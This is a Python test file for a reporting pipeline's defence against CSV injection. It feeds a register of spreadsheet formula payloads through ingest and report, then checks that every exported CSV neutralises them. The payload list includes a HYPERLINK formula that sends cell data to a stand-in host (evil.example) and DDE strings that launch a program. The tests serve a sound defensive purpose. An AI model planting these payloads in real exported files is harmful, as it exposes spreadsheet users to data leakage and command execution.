"""CSV injection (DESIGN §7): a register whose names, addresses and grids hold spreadsheet
formulas, taken through the real ingest and report; every CSV written for people (the report's,
the district pack's, the worklists) carries a UTF-8 BOM and no cell a spreadsheet would run."""

import csv
from datetime import timedelta

import polars as pl
import pytest

from reporting.districts import report_districts, write_district_pack
from reporting.people_csv import neutralise_cells
from reporting.report import write_report
from tests.builders import AS_OF, P, build, ingest, open_test_round
from kernel.secrets import id_hash_key
from warehouse.views import define_views
from warehouse.connection import open_warehouse

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def payload_register(root):
    rows = []
    for i, number in P.items():
        rows.append({
            "id_type": "RIC", "id_number": number, "name": PAYLOADS[i % len(PAYLOADS)],
            "phone": "13800138000", "district": "黄浦区", "subdistrict": "外滩街道", "community": "中山居委",
            "grid": "@G2" if i == 16 else "G1", "address": PAYLOADS[(i + 1) % len(PAYLOADS)], "household_id": f"H{i}",
            "mobility_limited": "true" if i in (9, 16) else "false",
            "key_group": "courier" if i in (12, 16) else ""})
    pl.DataFrame(rows).write_csv(root / "register" / "r.csv")


@pytest.fixture
def report_out(tmp_path, cfg):
    open_test_round(cfg)
    root = build(tmp_path / "in")
    payload_register(root)
    ingest(root, cfg)
    out = tmp_path / "out"
    with open_warehouse(cfg.warehouse.path, id_hash_key()) as con:
        define_views(con, cfg, snapshot=True)
        write_report(con, cfg, "R1", AS_OF + timedelta(days=2), out)
    for district in report_districts(out):
        write_district_pack(out, district)
    return out


def test_every_people_csv_has_a_bom_and_no_cell_a_spreadsheet_runs(report_out):
    files = sorted(report_out.rglob("*.csv"))
    names = {p.relative_to(report_out).as_posix() for p in files}
    assert {"untested.csv", "resample_orders.csv", "key_groups_overdue.csv", "districts/黄浦区/untested.csv",
            "districts/黄浦区/resample_orders.csv", "districts/黄浦区/worklists/G1.csv",
            "districts/黄浦区/worklists/_G2.csv"} <= names
    seen = set()
    for path in files:
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), path
        rows = list(csv.reader(data.decode("utf-8-sig").splitlines()))
        assert len(rows) > 1, path
        for row in rows[1:]:
            for cell in row:
                if cell.startswith("+") and cell[1:].isdigit():
                    assert cell == "+8613800138000"  # an E.164 phone: a number to Excel, kept as it is
                    seen.add("phone")
                    continue
                assert not cell.startswith(RUNS), (path.name, cell)
                if cell.startswith("'"):
                    assert cell[1:] in [*PAYLOADS, "@G2"], cell
                    seen.add(cell[1:])
    assert seen == {"phone", "@G2", *PAYLOADS}


def test_parquet_files_for_machines_keep_the_text(report_out):
    untested = pl.read_parquet(report_out / "untested.parquet")
    assert untested.row(0, named=True)["grid"] == "@G2"
    assert untested.row(0, named=True)["name"] == PAYLOADS[16 % len(PAYLOADS)]


def test_neutralise_every_text_column_tabs_and_returns_too():
    frame = pl.DataFrame({"a": ["\t=1+1", "\r=1", "ok", None, "+8613800001111", "+86 138 0000 1111", "-1"],
                          "n": [1, -2, 3, 4, 5, 6, 7]})
    assert neutralise_cells(frame).to_dict(as_series=False) == {
        "a": ["'\t=1+1", "'\r=1", "ok", None, "+8613800001111", "'+86 138 0000 1111", "'-1"],
        "n": [1, -2, 3, 4, 5, 6, 7]}


# --- issue 15: person-level CSVs streamed in chunks ------------------------------------------------

def test_a_people_csv_written_in_chunks_is_the_same_bytes_as_written_whole(tmp_path):
    import io
    from datetime import datetime, timezone

    from reporting.people_csv import write_people_csv, write_people_csv_batches

    frame = pl.DataFrame({
        "name": [*PAYLOADS, "+8613800001111", None, "plain, with a comma", "引号\"在内"] * 3,
        "phone": ["+86 138", "+8613800001111", "=1", None, "13800138000", "-", "@", "\t1", "x"] * 3,
        "when": [datetime(2022, 4, 4, 12, i, tzinfo=timezone.utc) for i in range(9)] * 3,
        "n": [1.5, None, 2e-9, 1e21, 0.1, 3.0, -0.0, 7.25, 2.0] * 3,
        "flag": [True, False, None] * 9,
    }).with_columns(pl.col("when").dt.convert_time_zone("Asia/Shanghai"))
    whole = io.BytesIO()
    write_people_csv(frame, whole)
    for cuts in ((0, 27), (0, 1, 27), (0, 5, 5, 13, 26, 27), tuple(range(28))):
        path = tmp_path / f"chunks-{len(cuts)}.csv"
        rows = write_people_csv_batches((frame[a:b] for a, b in zip(cuts, cuts[1:])), path)
        assert rows == frame.height and path.read_bytes() == whole.getvalue()
    empty = io.BytesIO()
    write_people_csv(frame.head(0), empty)
    write_people_csv_batches(iter(()), tmp_path / "none.csv", empty=frame.head(0))
    assert (tmp_path / "none.csv").read_bytes() == empty.getvalue() == "\ufeffname,phone,when,n,flag\n".encode()


def test_people_csv_parts_are_the_bytes_of_each_part_written_alone(tmp_path):
    """Issue 15: the worklists (one CSV per grid) are neutralised once for the whole district and
    then cut; each file is the bytes :func:`write_people_csv` gives its part alone, named by the
    grid as it was (a formula-like grid keeps its file name)."""
    import io
    from datetime import datetime, timezone

    from reporting.people_csv import write_people_csv, write_people_csv_parts

    frame = pl.DataFrame({
        "grid": ["G1", "@G2", "G1", "-G3", "@G2", "G1"],
        "name": [PAYLOADS[0], "plain", "+8613800001111", PAYLOADS[1], "\t1", None],
        "when": [datetime(2022, 4, 4, 12, i, tzinfo=timezone.utc) for i in range(6)],
    }).with_columns(pl.col("when").dt.convert_time_zone("Asia/Shanghai"))
    written = write_people_csv_parts(frame, "grid", lambda grid: tmp_path / f"{grid}.csv")
    assert written == 3 and sorted(p.name for p in tmp_path.iterdir()) == ["-G3.csv", "@G2.csv", "G1.csv"]
    for grid in ("G1", "@G2", "-G3"):
        alone = io.BytesIO()
        write_people_csv(frame.filter(pl.col("grid") == grid), alone)
        assert (tmp_path / f"{grid}.csv").read_bytes() == alone.getvalue()
    assert "'@G2" in (tmp_path / "@G2.csv").read_text(encoding="utf-8-sig")
